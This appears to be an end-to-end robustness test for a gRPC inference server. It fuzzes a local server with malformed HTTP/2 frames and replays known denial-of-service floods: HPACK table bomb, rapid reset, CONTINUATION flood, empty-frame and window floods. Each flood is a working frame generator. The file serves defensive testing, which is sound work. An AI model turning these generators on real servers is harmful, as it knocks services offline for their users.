"""Frames of HTTP/2 that no client sends: damaged by chance, and the floods that servers have fallen to.

As a program it lets them loose on a real server and tells what became of it:

    python -m tests.e2e.http2_frames [--frames 100000] [--seed 1]
"""

from __future__ import annotations

import argparse
import random
import select
import socket
import struct
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"", length: int | None = None) -> bytes:
    """length: told in the place of the true one."""
    size = len(payload) if length is None else length
    return struct.pack(">I", size & 0xFFFFFF)[1:] + struct.pack(">BBI", kind, flags, stream & 0xFFFFFFFF) + payload


def literal(name: bytes, value: bytes, indexed: bool = False) -> bytes:
    """A header field with its name spelt out, both shorter than 16 KiB (RFC 7541, 6.2)."""

    def text(bytes_: bytes) -> bytes:
        size = len(bytes_)
        return (bytes([size]) if size < 127 else bytes([127, (size - 127) & 127 | 128, (size - 127) >> 7])) + bytes_

    return (b"\x40" if indexed else b"\x00") + text(name) + text(value)


PATH = b"/inference.GRPCInferenceService/ServerLive"
HEAD = (
    b"\x83\x86\x04" + bytes([len(PATH)]) + PATH + b"\x01\x01a\x0f\x10\x10application/grpc" + literal(b"te", b"trailers")
)


def settings(*pairs: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


def call(stream: int) -> list[bytes]:
    """One call as it should be: an empty message."""
    return [frame(HEADERS, END_HEADERS, stream, HEAD), frame(DATA, END_STREAM, stream, bytes(5))]


def damaged(one: bytes, draw: random.Random) -> bytes:
    """Up to three changes of a frame, its head included."""
    out = bytearray(one)
    for _ in range(draw.randint(1, 3)):
        at = draw.randrange(len(out)) if draw.random() < 0.6 else draw.randrange(min(len(out), 9))
        how = draw.randrange(4)
        if how < 2:
            out[at] ^= 1 << draw.randrange(8)
        elif how == 2:
            del out[at : at + draw.randint(1, 4)]
        else:
            out[at:at] = draw.randbytes(draw.randint(1, 16))
        if not out:
            return b""
    return bytes(out)


def by_chance(draw: random.Random) -> Iterator[bytes]:
    """Calls, some of whose frames are damaged, doubled, left out or made up."""
    stream = 1
    while True:
        extra = [
            frame(PING, draw.choice((0, ACK)), 0, draw.randbytes(8)),
            frame(WINDOW_UPDATE, 0, draw.choice((0, stream)), struct.pack(">I", draw.getrandbits(32))),
            frame(PRIORITY, 0, stream, draw.randbytes(5)),
            frame(RST_STREAM, 0, stream, struct.pack(">I", draw.randrange(16))),
            settings((draw.randrange(8), draw.getrandbits(draw.choice((4, 16, 31, 32))))),
            frame(draw.randrange(256), draw.randrange(256), draw.getrandbits(32), draw.randbytes(draw.randrange(64))),
            frame(HEADERS, draw.randrange(256), stream, draw.randbytes(draw.randrange(200))),
            frame(DATA, draw.randrange(256), stream, draw.randbytes(draw.randrange(200))),
        ]
        frames = call(stream)
        for _ in range(draw.randrange(3)):
            frames.insert(draw.randrange(len(frames) + 1), draw.choice(extra))
        for one in frames:
            fate = draw.random()
            if fate < 0.06:
                yield damaged(one, draw)
            elif fate < 0.09:
                yield one + one
            elif fate > 0.02:
                yield one
        stream += 2


def table_bomb(draw: random.Random) -> Iterator[bytes]:
    """One large entry in the table of headers, named by each of thousands of bytes (CVE-2016-1544 and others)."""
    yield frame(HEADERS, END_HEADERS, 1, HEAD + literal(b"x", bytes([97]) * 4000, indexed=True))
    for stream in range(3, 1 << 30, 2):
        yield frame(HEADERS, 0, stream, HEAD + b"\xbe" * 16000)
        for _ in range(draw.randrange(4)):
            yield frame(CONTINUATION, 0, stream, b"\xbe" * 16000)
        yield frame(CONTINUATION, END_HEADERS, stream, b"\xbe")


def rapid_reset(_: random.Random) -> Iterator[bytes]:
    """Calls that are taken back at once (CVE-2023-44487)."""
    for stream in range(1, 1 << 30, 2):
        yield frame(HEADERS, END_HEADERS, stream, HEAD)
        yield frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def continuation_flood(draw: random.Random) -> Iterator[bytes]:
    """Headers without an end (CVE-2024-27316 and others)."""
    yield frame(HEADERS, END_STREAM, 1, HEAD)
    while True:
        yield frame(CONTINUATION, 0, 1, literal(draw.randbytes(8).hex().encode(), bytes(draw.randrange(2000))))


def empty_frames(draw: random.Random) -> Iterator[bytes]:
    """Frames that cost nothing to send: data, settings, pings, priorities (CVE-2019-9512 to 9518)."""
    yield frame(HEADERS, END_HEADERS, 1, HEAD)
    while True:
        yield draw.choice(
            (
                frame(DATA, 0, 1),
                frame(DATA, PADDED, 1, b"\0"),
                settings(),
                frame(PING, 0, 0, draw.randbytes(8)),
                frame(PRIORITY, 0, draw.randrange(1, 1 << 31, 2), b"\0\0\0\1\1"),
                frame(SETTINGS, ACK, 0),
            )
        )


def windows(draw: random.Random) -> Iterator[bytes]:
    """Windows and frames as large as can be told, and larger."""
    yield settings((4, 2**31 - 1), (5, 2**24 - 1), (3, 2**32 - 1), (6, 0), (1, 2**32 - 1))
    for stream in range(1, 1 << 30, 2):
        yield from call(stream)
        yield frame(
            WINDOW_UPDATE, 0, draw.choice((0, stream)), struct.pack(">I", draw.choice((1, 2**16, 2**31 - 1, 0)))
        )
        if draw.random() < 0.1:
            yield settings((4, draw.choice((0, 1, 2**31 - 1, 2**31))))
        if draw.random() < 0.05:
            yield frame(DATA, 0, stream, b"\0" + struct.pack(">I", 2**32 - 1) + bytes(1000))


def header_blocks(draw: random.Random) -> Iterator[bytes]:
    """Numbers without an end, texts that are none, sizes of tables, names that may not be."""
    pieces = (
        b"\xff" * 20,
        b"\x7f" + b"\xff" * 10,
        b"\x3f\xe1\xff\xff\xff\x0f",
        b"\x20" * 50,
        b"\x00\xff\xff\xff\xff\xff\x7f",
        b"\x00\x85" + b"\xff" * 5 + b"\x01a",
        b"\x00\x01\x84\xff\xff\xff\xff",
        literal(b":path", b"/"),
        literal(b"UPPER", b"a\0b\r\n"),
        literal(b"grpc-timeout", b"99999999999999999999H"),
        literal(b"grpc-encoding", b"gzip"),
        literal(b"traceparent", b"00-" + b"f" * 2000),
        literal(b"authorization", b"Bearer " + bytes(3000)),
        b"\xbf\xc0\xfe",
        b"\x80",
    )
    for stream in range(1, 1 << 30, 2):
        block = b"".join(draw.sample(pieces, draw.randint(1, 4)))
        yield frame(HEADERS, END_HEADERS, stream, draw.choice((HEAD + block, block + HEAD, block, HEAD)))
        yield frame(DATA, END_STREAM, stream, draw.choice((bytes(5), b"\1\0\0\0\4abcd", b"\2" + draw.randbytes(9))))


ATTACKS: dict[str, Callable[[random.Random], Iterator[bytes]]] = {
    "by chance": by_chance,
    "table bomb": table_bomb,
    "rapid reset": rapid_reset,
    "continuation flood": continuation_flood,
    "empty frames": empty_frames,
    "windows": windows,
    "header blocks": header_blocks,
}


def send(address: tuple[str, int], frames: Iterator[bytes], most: int) -> int:
    """Sends up to so many frames on one connection, reading what comes; gives how many went out."""
    sent = 0
    try:
        with socket.create_connection(address, timeout=5) as connection:
            connection.sendall(PREFACE + settings())
            connection.setblocking(False)
            waiting = b""
            begin = time.monotonic()
            while (sent < most or waiting) and time.monotonic() < begin + 20:
                while len(waiting) < 1 << 16 and sent < most:
                    waiting += next(frames)
                    sent += 1
                readable, writable, _ = select.select([connection], [connection], [], 1.0)
                if readable and not connection.recv(1 << 16):
                    break
                if writable:
                    waiting = waiting[connection.send(waiting) :]
    except (ConnectionError, TimeoutError, BlockingIOError):
        pass  # it was shown the door
    return sent


def attack(address: tuple[str, int], frames: int, seed: int, between: Callable[[], None]) -> Counter[str]:
    """So many frames in all, each kind of attack in its turn; between: looks after the others from time to time."""
    draw = random.Random(seed)
    sent: Counter[str] = Counter()
    while sum(sent.values()) < frames:
        for name, make in ATTACKS.items():
            sent[name] += send(address, make(draw), most=draw.choice((20, 200, 2000)))
            between()
    return sent


def main() -> int:
    """Lets them loose on a server of its own."""
    import tritonclient.grpc as triton

    from tests.e2e import servers

    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--frames", type=int, default=100_000)
    parser.add_argument("--seed", type=int, default=1)
    options = parser.parse_args()
    with tempfile.TemporaryDirectory() as name, servers.serving(Path(name), "--grpc", "127.0.0.1:0") as server:
        host, _, port = server.grpc.rpartition(":")
        slowest, before, most = 0.0, server.resident_bytes(), 0

        def between() -> None:
            nonlocal slowest, most
            begin = time.perf_counter()
            with triton.InferenceServerClient(server.grpc) as client:
                assert client.is_server_live(client_timeout=10)
            slowest = max(slowest, time.perf_counter() - begin)
            most = max(most, server.resident_bytes())

        sent = attack((host, int(port)), options.frames, options.seed, between)
        print(
            f"{sum(sent.values())} frames: {dict(sent)}; others answered within {slowest * 1e3:.0f} ms, resident "
            f"{before / 1e6:.1f} -> {server.resident_bytes() / 1e6:.1f} MB, {most / 1e6:.1f} at most"
        )
    return 0


if __name__ == "__main__":
    sys.exit(main())
